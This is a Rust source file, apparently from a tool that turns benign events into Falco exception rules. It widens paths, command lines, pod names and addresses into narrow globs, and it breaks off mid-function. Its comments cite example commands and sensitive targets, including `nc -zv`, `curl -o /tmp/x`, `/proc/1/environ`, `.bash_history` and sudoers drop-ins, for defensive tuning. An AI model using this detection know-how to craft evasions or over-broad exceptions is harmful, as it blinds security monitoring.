//! Field kinds and how each generalises: the values a person's benign events carry are
//! widened only along the shape their kind is known to vary in (a segment number, a
//! generated pod suffix, the next file of a directory), never by a longest common prefix
//! of whatever was seen. Each generalisation is a *candidate*: synthesis verifies it
//! before anything is printed.
//!
//! | kind | fields | generalisations (narrowest first) |
//! |---|---|---|
//! | path | `fd.name` (files), `fs.path.*`, `evt.arg.*` paths | `=`/`in`; `glob` over digit runs, hashes and temp names in a name; the file's family (a package manager's logs, the activity logs, a home's start-up files of one shell: `pmatch` or one glob row each); the directory (`startswith dir/`, or `pmatch` over several) |
//! | executable | `proc.exepath` | `=`/`in`; `glob` over digit runs and hashes; widest, in a generated directory, any name with the same extension (a build tool's next binary, `/dev/shm/go-build*/b*/*.test`; its command line's first word with it) |
//! | server address | `fd.sip` | `=`/`in`; the server network (`fd.snet` CIDR, /24 or /16) when several addresses are seen, the /24 of one address of the site's own networks (never of an outside one) |
//! | server port, server name | `fd.sport`, `fd.sip.name` | `=`/`in`; names also `glob` over digit runs (`db-0.db`, `db-1.db`) |
//! | pod or container name | `k8s.pod.name`, `container.name` | the controller's prefix without the generated suffix (`startswith web-`), never one replica's own name; else `=`/`in`, and, widest, the name's first part for pods per user or instance (`startswith jupyter-`) |
//! | command line | `proc.cmdline` | `=`/`in`; `glob` over timestamps, segment numbers, hashes and temp names, and the host octet of an address of the site's own networks (`root@10.40.2.*:`; an outside address stays whole); the command through its script or subcommand followed by `*`, or through a URL's server (`curl -o /tmp/x https://dl.example.com/*`, never any server); a shell's program as a regex (another file of its directories or of a URL's directory on the same server, the next rotation number) |
//! | names, ancestors, image, namespace, user | everything else | `=`/`in` only |
//!
//! The client's port (`fd.cport`, `fd.lport` of a connect) is never a key: it is
//! ephemeral. A socket's `fd.name` (`10.0.0.5:43122->10.0.0.9:5432`) is not used as a
//! path; network events key on the server side instead.

use std::collections::BTreeSet;
use std::net::{IpAddr, Ipv4Addr};

use crate::emit::ExVal;
use crate::evidence::RUNTIME_SHIMS;

/// Most distinct values an `in` list takes.
pub const MAX_IN: usize = 6;

/// The kind of a field's values.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Kind {
    /// A file path.
    Path,
    /// An executable's path.
    Exe,
    /// The server's address of a connection.
    ServerAddr,
    /// The server's port.
    ServerPort,
    /// The server's resolved name.
    ServerName,
    /// A pod or container name (controller prefix + generated suffix).
    Pod,
    /// A command line.
    CmdLine,
    /// A process or ancestor name (`script_7311.sh`, `worker-3`): digit runs vary.
    Name,
    /// Anything compared as given (image, namespace, user).
    Exact,
}

/// The kind of a field.
pub fn kind(field: &str) -> Kind {
    match field {
        "fd.name" | "fd.directory" | "fs.path.name" | "fs.path.source" | "fs.path.target"
        | "evt.arg.name" | "evt.arg.path" | "evt.arg.pathname" | "evt.arg.filename" => Kind::Path,
        "proc.exepath" | "proc.pexepath" => Kind::Exe,
        "fd.sip" | "fd.rip" => Kind::ServerAddr,
        "fd.sport" | "fd.rport" => Kind::ServerPort,
        "fd.sip.name" | "fd.rip.name" => Kind::ServerName,
        "k8s.pod.name" | "container.name" => Kind::Pod,
        "proc.cmdline" | "proc.pcmdline" => Kind::CmdLine,
        "proc.name" | "proc.pname" | "proc.aname" => Kind::Name,
        f if f.starts_with("proc.aname[") => Kind::Name,
        _ => Kind::Exact,
    }
}

/// One way to cover a field's benign values.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Gen {
    /// The field compared (a generalisation may move to another field, e.g. `fd.snet`).
    pub field: String,
    /// The comparison.
    pub comp: String,
    /// The value.
    pub value: ExVal,
    /// 0: the values seen; 1: widened along the kind's variable parts; 2: the directory
    /// or network around them.
    pub level: u8,
}

fn gen(field: &str, comp: &str, value: ExVal, level: u8) -> Gen {
    Gen {
        field: field.to_string(),
        comp: comp.to_string(),
        value,
        level,
    }
}

/// Whether a value survives Falco's compile step with `=`-like operators: `quote_item`
/// wraps a value with a space in double quotes without escaping, so a double quote or a
/// backslash inside breaks it; a value without a space is a bare word, which must not
/// contain characters that end a bare word or start a quoted string.
pub fn safe_for_eq(v: &str) -> bool {
    if v.is_empty()
        || v.contains('"')
        || v.contains('\\')
        || v.starts_with('\'')
        || v.chars().any(char::is_control)
    {
        return false;
    }
    if v.contains(' ') {
        return true;
    }
    !v.contains(|c: char| "(),=<>!'\t".contains(c))
}

/// Whether a value can be an item of an `in (...)` list.
pub fn safe_in_list(v: &str) -> bool {
    safe_for_eq(v) && (v.contains(' ') || !v.contains(','))
}

fn safe_prefix(v: &str) -> String {
    let cut = v
        .find(|c: char| c == '"' || c == '\\' || c == '\'' || c.is_control())
        .unwrap_or(v.len());
    let p = &v[..cut];
    if safe_for_eq(p) {
        p.to_string()
    } else {
        String::new()
    }
}

/// The values seen, as `=` (one) or `in` (a few); a single value Falco's quoting cannot
/// carry becomes `startswith` its safe prefix.
fn exact(field: &str, distinct: &BTreeSet<&str>) -> Option<Gen> {
    if distinct.len() == 1 {
        let v = *distinct.iter().next()?;
        if safe_for_eq(v) {
            return Some(gen(field, "=", ExVal::One(v.to_string()), 0));
        }
        if kind(field) == Kind::CmdLine && is_shell_program(&v.split(' ').collect::<Vec<_>>()) {
            // A prefix of a shell's program takes any command after it; its class glob
            // (quotes as `?`) stands in instead.
            return None;
        }
        let p = safe_prefix(v);
        return (p.len() >= 4).then(|| gen(field, "startswith", ExVal::One(p), 0));
    }
    (distinct.len() <= MAX_IN && distinct.iter().all(|v| safe_in_list(v))).then(|| {
        gen(
            field,
            "in",
            ExVal::Many(distinct.iter().map(|s| s.to_string()).collect()),
            0,
        )
    })
}

/// The generalisations of a field over the benign values, narrowest first (deduplicated).
pub fn ladder(field: &str, values: &[String]) -> Vec<Gen> {
    let distinct: BTreeSet<&str> = values.iter().map(String::as_str).collect();
    if distinct.is_empty() {
        return Vec::new();
    }
    let mut out: Vec<Gen> = exact(field, &distinct).into_iter().collect();
    let k = kind(field);
    match k {
        Kind::Path | Kind::Exe | Kind::CmdLine | Kind::ServerName | Kind::Name => {
            match globs(k, &distinct) {
                Some(g) if g.len() == 1 => out.extend(
                    g.into_iter()
                        .next()
                        .map(|g| gen(field, "glob", ExVal::One(g), 1)),
                ),
                // Several shapes (`/root/.bash_history` and `/home/*/.bash_history`): one
                // exception row per shape (synthesis expands a glob's list into rows).
                Some(g) if k != Kind::Name && g.len() <= MAX_IN => {
                    out.push(gen(field, "glob", ExVal::Many(g.into_iter().collect()), 1))
                }
                _ => {}
            }
        }
        _ => {}
    }
    match k {
        Kind::Path => {
            // Another file of the same kind ([`PATH_FAMILIES`]): the package manager's
            // other log, the skeleton's other start-up file.
            out.extend(family(field, &distinct));
            // The directory widens the glob only when it has no variable part itself
            // (`/proc/1/environ`: the glob `/proc/*/environ`, not everything in `/proc/1/`).
            let fixed_dirs = distinct
                .iter()
                .all(|v| parent_dir(v).is_some_and(|d| masked(d).is_some_and(|(_, c)| !c)));
            if let Some(d) = directory(field, &distinct).filter(|_| fixed_dirs) {
                out.push(d);
            }
        }
        Kind::CmdLine => {
            if let Some(p) = script_prefix(&distinct) {
                out.push(gen(field, "glob", ExVal::One(p), 2));
            } else if let Some(p) = url_prefixes(&distinct) {
                // Several URL servers (or ports): one exception row each.
                out.push(gen(field, "glob", ExVal::Many(p.into_iter().collect()), 2));
            }
            // Each value widened along its own shape (a shell's program, an account tool's
            // line); a value with no such shape stays itself, as a literal pattern. Several
            // shapes are one exception row each (`useradd ... ACCOUNT` and `gpasswd -a
            // ACCOUNT group`), never a pattern that mixes them.
            let mut widened = false;
            let rx: Option<BTreeSet<String>> = distinct
                .iter()
                .map(|v| {
                    let r = shell_program_regex(v).or_else(|| account_regex(v));
                    widened |= r.is_some();
                    r.or_else(|| literal_regex(v))
                })
                .collect();
            match rx.filter(|r| widened && r.iter().all(|r| falco_regex(r))) {
                Some(r) if r.len() == 1 => {
                    out.extend(r.into_iter().map(|r| gen(field, "regex", ExVal::One(r), 2)))
                }
                Some(r) if r.len() <= MAX_IN => {
                    out.push(gen(field, "regex", ExVal::Many(r.into_iter().collect()), 2))
                }
                _ => {}
            }
        }
        Kind::Pod => {
            if let Some(p) = controller_prefix(&distinct) {
                // A controller's pod (a Deployment's, a StatefulSet's ordinal, a debug
                // container's) is replaced under a new generated name at every rollout,
                // rescheduling or restart: its own name is no narrower unit of the workload
                // than the controller's prefix, only one that breaks at the next replacement
                // (holdout26: every exception keyed on one replica failed on the next). The
                // prefix is the narrowest rung.
                out.retain(|g| g.level > 0);
                // A prefix that still holds a generated segment (a Job's or a runner's run id:
                // `rust-build-8f2kd-`, `runner-...-project-412-concurrent-`) also takes, wider,
                // the same controller's pods of another run (`rust-build-*-*`).
                let generated = p.split('-').any(generated_segment);
                out.push(gen(field, "startswith", ExVal::One(p), 0));
                if let Some(g) = pod_glob(&distinct).filter(|_| generated) {
                    out.push(gen(field, "glob", ExVal::One(g), 2));
                }
            } else if let Some(g) = pod_glob(&distinct) {
                out.push(gen(field, "glob", ExVal::One(g), 1));
            } else if let Some(p) = instance_prefix(&distinct) {
                out.push(gen(field, "startswith", ExVal::One(p), 2));
            }
        }
        Kind::Exe => {
            if let Some(paths) = system_program_paths(&distinct) {
                out.push(gen(field, "in", ExVal::Many(paths), 1));
            }
            if let Some(paths) = posix_shell_paths(&distinct) {
                out.push(gen(field, "in", ExVal::Many(paths), 2));
            }
            let gens: Option<BTreeSet<String>> =
                distinct.iter().map(|v| generated_binary(v)).collect();
            if let Some(g) = gens.filter(|g| g.len() == 1) {
                out.extend(g.into_iter().map(|g| gen(field, "glob", ExVal::One(g), 2)));
            }
        }
        // A parent that is the container runtime's exec entry: the same lineage shape
        // whichever runtime the node runs (`containerd-shim`, `conmon`, `runc`). Only the
        // parent: further up, which runtime process a tree hangs from is what tells a
        // workload's own tree from an `exec`'d one (the development corpora's sidecar
        // entrypoint under the shim, an `exec`'d shell under `runc`).
        Kind::Name
            if field == "proc.pname" && distinct.iter().all(|v| RUNTIME_SHIMS.contains(v)) =>
        {
            out.push(class_rung(field, RUNTIME_SHIMS));
        }
        // A parent or an ancestor that is one program under each distribution's name
        // ([`SAME_PROGRAM`]: `httpd` and `apache2`, `cron` and `crond`): the same lineage on
        // another distribution. The process's own name is keyed by its executable instead.
        Kind::Name if field != "proc.name" && field != "proc.aname" => {
            if let Some(names) = same_program_names(&distinct) {
                out.push(class_rung(field, names));
            }
        }
        // A distribution's web server account under each distribution's name
        // ([`WEB_SERVER_ACCOUNTS`]): the same account kind on another distribution.
        Kind::Exact
            if field == "user.name" && distinct.iter().all(|v| WEB_SERVER_ACCOUNTS.contains(v)) =>
        {
            out.push(class_rung(field, WEB_SERVER_ACCOUNTS));
        }
        Kind::ServerAddr => {
            if let Some(net) = server_net(&distinct) {
                out.push(gen("fd.snet", "=", ExVal::One(net), 2));
            }
        }
        _ => {}
    }
    let mut seen = BTreeSet::new();
    out.retain(|g| seen.insert((g.comp.clone(), g.value.clone())));
    out
}

/// The system's own program directories: one program may be in any of them (a merged
/// `/usr` links `/bin` to `/usr/bin`; distributions put `tcpdump` or `mkfs` in `bin` or
/// `sbin`), and all four are root's.
const SYSTEM_BIN_DIRS: &[&str] = &["/bin", "/sbin", "/usr/bin", "/usr/sbin"];

/// The same programs in every system program directory ([`SYSTEM_BIN_DIRS`]): when each
/// value is a program directly in one of them, `in` over each name in all four (one
/// name: `/usr/bin/tcpdump` also takes `/usr/sbin/tcpdump` and `/bin/tcpdump`). `None`
/// past [`MAX_IN`] paths or when a value lies elsewhere.
fn system_program_paths(distinct: &BTreeSet<&str>) -> Option<Vec<String>> {
    let names: BTreeSet<&str> = distinct
        .iter()
        .map(|v| system_program(v).filter(|n| safe_in_list(n)))
        .collect::<Option<_>>()?;
    let paths: Vec<String> = names
        .iter()
        .flat_map(|n| SYSTEM_BIN_DIRS.iter().map(move |d| format!("{d}/{n}")))
        .collect();
    (paths.len() <= MAX_IN).then_some(paths)
}

/// The name of a program directly in a system program directory ([`SYSTEM_BIN_DIRS`]).
fn system_program(path: &str) -> Option<&str> {
    path.rsplit_once('/')
        .filter(|(dir, name)| SYSTEM_BIN_DIRS.contains(dir) && !name.is_empty())
        .map(|(_, name)| name)
}

/// Whether a path is a POSIX shell ([`POSIX_SHELLS`]) in `/bin` or `/usr/bin`.
fn is_posix_shell_path(path: &str) -> bool {
    path.rsplit_once('/').is_some_and(|(dir, name)| {
        matches!(dir, "/bin" | "/usr/bin") && POSIX_SHELLS.contains(&name)
    })
}

/// What a process name stands for in a cluster's signature: a container runtime's exec
/// entry ([`RUNTIME_SHIMS`]) is `runtime-shim` whichever runtime the node runs; one program
/// under each distribution's name ([`SAME_PROGRAM`]: `httpd` and `apache2`, `cron` and
/// `crond`, `sshd` and OpenSSH's `sshd-session`) is that program; any other name is itself.
/// (The lineage shape tune widens `proc.pname` by, for the runtimes.)
pub fn name_class(name: &str) -> &str {
    if RUNTIME_SHIMS.contains(&name) {
        return "runtime-shim";
    }
    SAME_PROGRAM
        .iter()
        .find(|(_, names)| names.contains(&name))
        .map_or(name, |(class, _)| class)
}

/// One program under the names distributions give it: the Apache web server (`httpd` on
/// RHEL, SUSE and Alpine, `apache2` on Debian), the cron daemon (`cron` on Debian, `crond`
/// from cronie on RHEL and Alpine), and OpenSSH's server (`sshd`, whose per-connection
/// process is `sshd-session` since 9.8).
pub const SAME_PROGRAM: &[(&str, &[&str])] = &[
    ("apache-httpd", &["httpd", "apache2"]),
    ("cron", &["cron", "crond", "cronie"]),
    ("sshd", &["sshd", "sshd-session"]),
];

/// Every name of the one program ([`SAME_PROGRAM`]) all the values are names of; `None`
/// when they are not all one program's.
fn same_program_names(distinct: &BTreeSet<&str>) -> Option<&'static [&'static str]> {
    SAME_PROGRAM
        .iter()
        .find(|(_, names)| distinct.iter().all(|v| names.contains(v)))
        .map(|(_, names)| *names)
}

/// The level-1 rung `in` over every name of one class (a container runtime's exec entry,
/// one program's names on each distribution, a distribution's web server account): the
/// same thing under each name it goes by.
fn class_rung(field: &str, class: &[&str]) -> Gen {
    let names = class.iter().map(|s| s.to_string()).collect();
    gen(field, "in", ExVal::Many(names), 1)
}

/// The account a distribution runs its web server as (`www-data` on Debian, `apache` on
/// RHEL, `http` on Arch, `wwwrun` on SUSE): one account kind in a cluster's signature.
pub const WEB_SERVER_ACCOUNTS: &[&str] = &["www-data", "apache", "http", "wwwrun"];

/// What an executable's path stands for in a cluster's signature: a program directly in a
/// system program directory (`/bin`, `/sbin`, `/usr/bin`, `/usr/sbin`) is `/{sys}/NAME`
/// whichever of them it is in, and a POSIX shell (`sh`, `bash`, `dash`) in `/bin` or
/// `/usr/bin` is `/{sys}/sh`; any other path is itself.
/// (The kinds tune widens `proc.exepath` by: the same program, another distribution's
/// layout.)
pub fn exe_class(path: &str) -> std::borrow::Cow<'_, str> {
    match system_program(path) {
        Some(_) if is_posix_shell_path(path) => std::borrow::Cow::Borrowed("/{sys}/sh"),
        Some(name) => std::borrow::Cow::Owned(format!("/{{sys}}/{name}")),
        None => std::borrow::Cow::Borrowed(path),
    }
}

/// The POSIX shells a system links `sh` to (`dash` on Debian, `bash` on RHEL), at every
/// place they are installed: any of them runs a `sh -c` program alike.
const POSIX_SHELLS: &[&str] = &["sh", "bash", "dash"];

/// Every POSIX shell at both system places (`/bin`, `/usr/bin`), when every value is one
/// of them there: a program's shell-out through `sh -c` is the same whichever shell the
/// distribution's `sh` is. (The command line, which an interpreter never goes without in
/// an exception, still says what the shell runs.)
fn posix_shell_paths(distinct: &BTreeSet<&str>) -> Option<Vec<String>> {
    distinct.iter().all(|v| is_posix_shell_path(v)).then(|| {
        ["/bin", "/usr/bin"]
            .iter()
            .flat_map(|d| POSIX_SHELLS.iter().map(move |n| format!("{d}/{n}")))
            .collect()
    })
}

/// A glob over the variable parts of a value: digit runs, hashes, random temp names and
/// a name's numeric suffix become `*`. `None` when nothing varies or the value cannot be
/// carried (quotes, control characters).
pub fn glob_of(v: &str) -> Option<String> {
    let (out, changed) = masked(v)?;
    let literal = out
        .chars()
        .filter(|c| c.is_ascii_alphabetic() || *c == '/')
        .count();
    (changed && literal >= 3).then_some(out)
}

/// The value as a glob with its variable parts masked, and whether anything was masked.
fn masked(v: &str) -> Option<(String, bool)> {
    masked_in(v, false)
}

/// [`masked`]; with `hosts`, an address of the site's own networks also takes any host of
/// its /24 ([`site_host_mask`]).
fn masked_in(v: &str, hosts: bool) -> Option<(String, bool)> {
    if v.chars().any(char::is_control) || v.contains('"') || v.contains('\\') {
        return None;
    }
    let mut out = String::with_capacity(v.len());
    let mut token = String::new();
    let mut changed = false;
    let mut flush = |token: &mut String, out: &mut String| {
        if !token.is_empty() {
            let m = glob_token(token);
            changed |= m != *token;
            out.push_str(&m);
            token.clear();
        }
    };
    let ips = ipv4_spans(v);
    let mut host_masked = false;
    for (i, c) in v.char_indices() {
        if let Some(&(_, end)) = ips.iter().find(|(s, _)| *s == i) {
            // An address is an endpoint, not a counter: it stays as it is, unless it is
            // one of the site's own hosts in a command line.
            flush(&mut token, &mut out);
            match site_host_glob(&v[i..end], false).filter(|_| hosts) {
                Some(g) => {
                    out.push_str(&g);
                    host_masked = true;
                }
                None => out.push_str(&v[i..end]),
            }
            continue;
        }
        if ips.iter().any(|&(s, e)| s < i && i < e) {
            continue;
        }
        if c.is_ascii_alphanumeric() {
            token.push(c);
        } else {
            flush(&mut token, &mut out);
            // The value's own glob metacharacters match themselves only approximately:
            // `?` (any one character) is the narrowest stand-in Falco's quoting allows.
            out.push(if matches!(c, '*' | '?' | '[' | ']') {
                '?'
            } else {
                c
            });
        }
    }
    flush(&mut token, &mut out);
    let changed = changed || host_masked;
    // Adjacent wildcards say no more than one.
    while out.contains("**") {
        out = out.replace("**", "*");
    }
    safe_for_eq(&out).then_some((out, changed))
}

/// The byte spans of the IPv4 addresses written in a value (standing on their own: not
/// inside a longer run of digits and dots, nor glued to a letter or `-`).
pub fn ipv4_spans(v: &str) -> Vec<(usize, usize)> {
    let b = v.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i].is_ascii_digit()
            && (i == 0
                || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.' || b[i - 1] == b'-'))
        {
            let mut j = i;
            while j < b.len() && (b[j].is_ascii_digit() || b[j] == b'.') {
                j += 1;
            }
            let after_ok = j == b.len() || !(b[j].is_ascii_alphanumeric() || b[j] == b'-');
            if after_ok && v[i..j].parse::<Ipv4Addr>().is_ok() {
                out.push((i, j));
            }
            i = j.max(i + 1);
        } else {
            i += 1;
        }
    }
    out
}

/// An address of the site's own networks (RFC 1918, shared address space 100.64/10; not
/// loopback, nor link-local, where the cloud metadata service answers) split into its /24 (`10.40.2.`, with the dot) and its host
/// octet (`11`). In a command line, the host octet is the next server of the same
/// service (`scp … root@10.40.2.12:`, `ipmitool -H 10.90.4.52`, `nc -zv 10.61.4.21`) as
/// `fd.snet` is for a connection's server (`server_net`); an outside address, where
/// intruders' servers are too, stays whole, and the `other_destination` mutation
/// (an outside address in its place) still checks every candidate.
pub fn site_host_mask(addr: &str) -> Option<(&str, &str)> {
    let ip: Ipv4Addr = addr.parse().ok()?;
    if ip.is_loopback() || ip.is_link_local() || !crate::evidence::is_inside(&IpAddr::V4(ip)) {
        return None;
    }
    let dot = addr.rfind('.')?;
    Some((&addr[..=dot], &addr[dot + 1..]))
}

/// A site's address as a glob over its /24 ([`site_host_mask`]): `10.40.2.*`, or with
/// `classes` one `[0-9]` per digit of the host (`10.61.4.[0-9][0-9]`, for a shell's
/// program, where a `*` could take a chained command).
fn site_host_glob(addr: &str, classes: bool) -> Option<String> {
    let (net, host) = site_host_mask(addr)?;
    let tail = if classes {
        "[0-9]".repeat(host.len())
    } else {
        "*".to_string()
    };
    Some(format!("{net}{tail}"))
}

fn glob_token(t: &str) -> String {
    let digits = t.chars().filter(char::is_ascii_digit).count();
    let letters = t.len() - digits;
    if digits == 0 {
        return t.to_string();
    }
    if digits == t.len() {
        return "*".into();
    }
    if t.len() >= 8 && t.chars().all(|c| c.is_ascii_hexdigit()) {
        return "*".into();
    }
    if t.starts_with(|c: char| c.is_ascii_digit()) && digits > letters && letters <= 2 {
        // A timestamp's fragment (`05T02` of `2026-11-05T02:00:07`), a size (`64k`).
        return "*".into();
    }
    if t.len() >= 6 && letters > 0 {
        // Random-looking: letters and digits interleaved (mktemp names, pod suffixes).
        let stem = t.trim_end_matches(|c: char| c.is_ascii_digit());
        let interleaved = stem.chars().any(|c| c.is_ascii_digit());
        if interleaved {
            return "*".into();
        }
    }
    // A stem with a numeric suffix (`worker12`, `python3`, `tty3`): keep the stem.
    let stem = t.trim_end_matches(|c: char| c.is_ascii_digit());
    if stem.len() < t.len() && !stem.is_empty() {
        return format!("{stem}*");
    }
    t.to_string()
}

/// The globs that cover the values: each value's variable parts masked, and in a path
/// or a tool's command line the owner of a home directory (`/home/ops/.bashrc` →
/// `/home/*/.bashrc`; a file of root's home is also the same file in any home). A
/// shell's inline program (`sh -c ...`) gets no `*` at all: its variable parts become
/// character classes of the same length ([`class_masked`]), so no command can be chained
/// or substituted into what the glob takes. `None` when nothing varies at all or a value
/// cannot be carried.
fn globs(k: Kind, distinct: &BTreeSet<&str>) -> Option<BTreeSet<String>> {
    let mut out = BTreeSet::new();
    let mut any = false;
    for v in distinct {
        let shell = k == Kind::CmdLine && is_shell_program(&v.split(' ').collect::<Vec<_>>());
        let (g, changed) = if shell {
            class_masked(v)?
        } else if matches!(k, Kind::Path | Kind::CmdLine) {
            home_masked_in(v, k == Kind::CmdLine)?
        } else {
            masked(v)?
        };
        let literal = g
            .chars()
            .filter(|c| c.is_ascii_alphabetic() || *c == '/')
            .count();
        if changed && literal < 3 {
            return None;
        }
        any |= changed;
        if k == Kind::Path {
            // root's home and the users' homes hold the same dot files.
            if let Some(rest) = g.strip_prefix("/root/").filter(|r| r.starts_with('.')) {
                out.insert(format!("/home/*/{rest}"));
                any = true;
            }
            if let Some(rest) = g.strip_prefix("/home/*/").filter(|r| r.starts_with('.')) {
                out.insert(format!("/root/{rest}"));
            }
        }
        out.insert(g);
    }
    any.then_some(out)
}

/// The shapes a path takes in any home: `/root/.x` and `/home/NAME/.x` both give
/// `/home/*/.x` (the same dot file in another user's home is the same target).
pub fn home_shape(v: &str) -> String {
    if let Some(rest) = v.strip_prefix("/root/").filter(|r| r.starts_with('.')) {
        return format!("/home/*/{rest}");
    }
    home_masked(v).map_or_else(|| v.to_string(), |(m, _)| m)
}

/// [`masked`], and the owner's name of a home directory (`/home/NAME/...`, where
/// `/home/` begins a path) as `*`: the same file in another user's home.
fn home_masked(v: &str) -> Option<(String, bool)> {
    home_masked_in(v, false)
}

/// [`home_masked`]; with `hosts`, the site's addresses as [`masked_in`] takes them.
fn home_masked_in(v: &str, hosts: bool) -> Option<(String, bool)> {
    let (m, changed) = masked_in(v, hosts)?;
    let mut out = String::with_capacity(m.len());
    let mut home = false;
    let mut rest = m.as_str();
    while let Some(i) = rest.find("/home/") {
        let starts_path = i == 0 || rest[..i].ends_with([' ', '=']);
        let (head, tail) = rest.split_at(i + "/home/".len());
        out.push_str(head);
        let end = tail.find(['/', ' ']).unwrap_or(tail.len());
        let owner = &tail[..end];
        // Only a home with something in it (`/home/ops/.bashrc`), not `/home/ops` itself.
        if starts_path && tail[end..].starts_with('/') && !owner.is_empty() {
            out.push('*');
            home |= owner != "*";
        } else {
            out.push_str(owner);
        }
        rest = &tail[end..];
    }
    out.push_str(rest);
    while out.contains("**") {
        out = out.replace("**", "*");
    }
    Some((out, changed || home))
}

/// A shell program's glob: each variable token (as [`masked`] finds them) becomes one
/// character class per character (`[0-9]`, `[0-9A-Fa-f]`, `[0-9A-Za-z]`), so the glob
/// takes the next segment number or timestamp of the same length and never a shell
/// metacharacter.
fn class_masked(v: &str) -> Option<(String, bool)> {
    if v.chars().any(char::is_control) {
        return None;
    }
    let mut out = String::with_capacity(v.len() * 2);
    let mut token = String::new();
    let mut changed = false;
    let flush = |token: &mut String, out: &mut String, changed: &mut bool| {
        if token.is_empty() {
            return;
        }
        let m = glob_token(token);
        if m != *token {
            *changed = true;
            let stem = m.strip_suffix('*').unwrap_or("");
            let var = &token[stem.len()..];
            out.push_str(stem);
            // A long run of digits is a hex identifier whose letters did not show this
            // time (a WAL segment `000000010000000300000042`); a short one a number.
            let class = if var.chars().all(|c| c.is_ascii_digit()) && var.len() < 12 {
                "[0-9]"
            } else if var.chars().all(|c| c.is_ascii_hexdigit()) {
                "[0-9A-Fa-f]"
            } else {
                "[0-9A-Za-z]"
            };
            for _ in var.chars() {
                out.push_str(class);
            }
        } else {
            out.push_str(token);
        }
        token.clear();
    };
    let ips = ipv4_spans(v);
    for (i, c) in v.char_indices() {
        if let Some(&(_, end)) = ips.iter().find(|(s, _)| *s == i) {
            flush(&mut token, &mut out, &mut changed);
            // A site's host octet as one digit class per digit (see `masked_in`).
            match site_host_glob(&v[i..end], true) {
                Some(g) => {
                    out.push_str(&g);
                    changed = true;
                }
                None => out.push_str(&v[i..end]),
            }
            continue;
        }
        if ips.iter().any(|&(s, e)| s < i && i < e) {
            continue;
        }
        if c.is_ascii_alphanumeric() {
            token.push(c);
        } else {
            flush(&mut token, &mut out, &mut changed);
            // Falco's quoting cannot carry a double quote or a backslash, and the value's
            // own glob characters only approximately match themselves: one `?` each.
            if matches!(c, '"' | '\\') {
                changed = true;
            }
            out.push(if matches!(c, '*' | '?' | '[' | ']' | '"' | '\\') {
                '?'
            } else {
                c
            });
        }
    }
    flush(&mut token, &mut out, &mut changed);
    safe_for_eq(&out).then_some((out, changed))
}

/// Files that are one kind of target: a tool that touches one of them in its routine run
/// touches the others too (a package manager writes each of its logs, an operator freeing
/// a full disk empties whichever activity log grew, a toolchain's installer edits
/// whichever start-up file the system has). Each is a `pmatch` list: an entry that is a
/// directory takes what is under it. Security records (`auth.log`, `secure`, `wtmp`,
/// `btmp`, `lastlog`, audit logs) are in none, and neither is a directory where a new file
/// is itself the attack ([`SENSITIVE_DIRS`]: a new sudoers or PAM drop-in): an exception
/// names the files there.
const PATH_FAMILIES: &[(&str, &[&str])] = &[
    (
        "package_logs",
        &[
            "/var/log/dpkg.log",
            "/var/log/alternatives.log",
            "/var/log/apt",
            "/var/log/bootstrap.log",
            "/var/log/dnf.log",
            "/var/log/dnf.librepo.log",
            "/var/log/dnf.rpm.log",
            "/var/log/yum.log",
            "/var/log/zypp",
        ],
    ),
    (
        "activity_logs",
        &[
            "/var/log/syslog",
            "/var/log/messages",
            "/var/log/kern.log",
            "/var/log/daemon.log",
            "/var/log/user.log",
            "/var/log/debug",
            "/var/log/mail.log",
            "/var/log/maillog",
            "/var/log/cron",
            "/var/log/cron.log",
        ],
    ),
    (
        "shell_profiles",
        &["/etc/profile", "/etc/bashrc", "/etc/bash.bashrc"],
    ),
];

/// The start-up files of one shell in a home: an account's skeleton copy or a toolchain's
/// installer writes each of them.
const HOME_FAMILIES: &[(&str, &[&str])] = &[
    (
        "bash_startup_files",
        &[
            ".bashrc",
            ".profile",
            ".bash_profile",
            ".bash_login",
            ".bash_logout",
        ],
    ),
    (
        "zsh_startup_files",
        &[".zshrc", ".zprofile", ".zshenv", ".zlogin", ".zlogout"],
    ),
];

fn in_entry(v: &str, entry: &str) -> bool {
    v == entry || v.strip_prefix(entry).is_some_and(|r| r.starts_with('/'))
}

/// A home's part and a dot file's name: `/root/.bashrc` → (`/root`, `.bashrc`),
/// `/home/ana/.profile` → (`/home/*`, `.profile`).
fn home_file(v: &str) -> Option<(&'static str, &str)> {
    if let Some(f) = v.strip_prefix("/root/") {
        return (!f.contains('/')).then_some(("/root", f));
    }
    let rest = v.strip_prefix("/home/")?;
    let (owner, f) = rest.split_once('/')?;
    (!owner.is_empty() && !f.contains('/')).then_some(("/home/*", f))
}

/// The family ([`PATH_FAMILIES`], [`HOME_FAMILIES`]) a path belongs to, by index (homes'
/// after the others).
fn family_of(v: &str) -> Option<usize> {
    PATH_FAMILIES
        .iter()
        .position(|(_, f)| f.iter().any(|e| in_entry(v, e)))
        .or_else(|| {
            let (_, f) = home_file(v)?;
            HOME_FAMILIES
                .iter()
                .position(|(_, fam)| fam.contains(&f))
                .map(|i| PATH_FAMILIES.len() + i)
        })
}

/// Whether two paths are one kind of target (the same path family: a package manager's logs,
/// the activity logs, the shell profiles, a home's start-up files of one shell). No
/// near-attack place of the mutations lies in a family (a test holds it), so a family rung
/// never silences one by construction.
pub fn same_family(a: &str, b: &str) -> bool {
    family_of(a).is_some_and(|f| family_of(b) == Some(f))
}

/// The family every value belongs to, as a rung: `pmatch` over its entries, or one glob
/// row per home shape seen and start-up file.
fn family(field: &str, distinct: &BTreeSet<&str>) -> Option<Gen> {
    let fams: BTreeSet<usize> = distinct
        .iter()
        .map(|v| family_of(v))
        .collect::<Option<_>>()?;
    let [f] = fams.into_iter().collect::<Vec<_>>()[..] else {
        return None;
    };
    if let Some((_, entries)) = PATH_FAMILIES.get(f) {
        let list = entries.iter().map(|e| e.to_string()).collect();
        return Some(gen(field, "pmatch", ExVal::Many(list), 1));
    }
    let (_, names) = HOME_FAMILIES.get(f - PATH_FAMILIES.len())?;
    let homes: BTreeSet<&str> = distinct
        .iter()
        .filter_map(|v| home_file(v))
        .map(|(h, _)| h)
        .collect();
    let rows: BTreeSet<String> = homes
        .iter()
        .flat_map(|h| names.iter().map(move |n| format!("{h}/{n}")))
        .collect();
    Some(gen(
        field,
        "glob",
        ExVal::Many(rows.into_iter().collect()),
        1,
    ))
}

/// The name of the family a path rung covers whole (`package_logs`), for an exception's
/// readable name: the rung lists the family, not the file seen.
pub fn family_label(comp: &str, v: &ExVal) -> Option<&'static str> {
